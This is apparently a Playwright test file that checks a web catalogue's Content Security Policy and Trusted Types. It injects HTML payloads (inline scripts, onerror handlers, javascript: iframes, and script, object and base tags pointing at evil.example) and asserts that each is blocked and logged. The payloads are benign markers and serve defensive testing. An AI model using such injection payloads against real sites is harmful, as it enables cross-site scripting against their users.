import type { Page } from '@playwright/test'
import { expect, test } from './journey.ts'

/** The injected code that has run. */
const ran = (page: Page) => page.evaluate(() => (window as unknown as { ran?: string[] }).ran ?? [])

/** Opens '/' with `markup` at the end of its body, as if a text of the catalogue had become HTML. */
async function openWith(page: Page, markup: string) {
  await page.route('./', async route => {
    const response = await route.fetch()
    const html = await response.text()
    await route.fulfill({ response, body: html.replace('</body>', () => `${markup}</body>`) })
  })
  await page.goto('./')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
}

const NOTE = "(window.ran??=[]).push('it')"

/** Injected markup, and the reported violation. */
const MARKUP = [
  {
    markup: `<script>${NOTE}</script>`,
    refused: /script-src-elem inline/,
  },
  {
    markup: `<img src="data:," alt="" onerror="${NOTE}">`,
    refused: /script-src-attr inline/,
  },
  {
    markup: '<script src="https://evil.example/x.js"></script>',
    refused: /script-src-elem https:\/\/evil\.example/,
  },
  {
    markup: `<iframe src="javascript:parent.ran=['it']" title=""></iframe>`,
    refused: /(script-src-elem|frame-src)/,
  },
  {
    markup: '<iframe src="https://evil.example/" title=""></iframe>',
    refused: /frame-src https:\/\/evil\.example/,
  },
  {
    markup: '<object data="https://evil.example/x.swf"></object>',
    refused: /object-src https:\/\/evil\.example/,
  },
  {
    markup: '<base href="https://evil.example/">',
    refused: /base-uri https:\/\/evil\.example/,
  },
  {
    markup: '<p style="position:fixed">it</p>',
    refused: /style-src-attr inline/,
  },
] as const

test('injected markup cannot run code', async ({ page, expectConsole }) => {
  await openWith(page, MARKUP.map(({ markup }) => markup).join(''))
  expectConsole(/^Violation: /)
  expectConsole(/Content Security Policy/)
  for (const { refused } of MARKUP) expectConsole(refused)
  await expect(page.getByRole('heading', { name: 'Trending Apps' })).toBeVisible()
  expect(await ran(page)).toEqual([])
})

test('eval, innerHTML and other Trusted Types policies cannot turn text into code', async ({
  page,
  expectConsole,
}) => {
  await page.goto('./')
  const outcomes = await page.evaluate(async () => {
    // Until its first await, code from Playwright may use eval.
    await new Promise(requestAnimationFrame)
    const note = "(window.ran??=[]).push('it')"
    const tries: Record<string, () => unknown> = {
      eval: () => Reflect.apply(Reflect.get(window, 'eval'), window, [note]),
      Function: () => Reflect.construct(Function, [note])(),
      innerHTML: () => {
        document.body.innerHTML = '<img src="data:," onerror="parent.ran=[1]">'
      },
      src: () => {
        document.createElement('script').src = 'https://evil.example/x.js'
      },
      policy: () =>
        (
          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }
        ).trustedTypes.createPolicy('another', {}),
    }
    return Object.fromEntries(
      Object.entries(tries).map(([name, attempt]) => {
        try {
          attempt()
          return [name, 'ran']
        } catch (error) {
          return [name, (error as Error).name]
        }
      }),
    )
  })
  expect(outcomes).toEqual({
    eval: 'EvalError',
    Function: 'EvalError',
    innerHTML: 'TypeError',
    src: 'TypeError',
    policy: 'TypeError',
  })
  expect(await ran(page)).toEqual([])
  for (const sink of ['eval', 'Function', 'Element innerHTML', 'HTMLScriptElement src']) {
    expectConsole(new RegExp(`^Violation: require-trusted-types-for trusted-types-sink ${sink}`))
  }
  expectConsole(/^Violation: trusted-types trusted-types-policy another/)
  expectConsole(/Content Security Policy|This document requires/i)
})
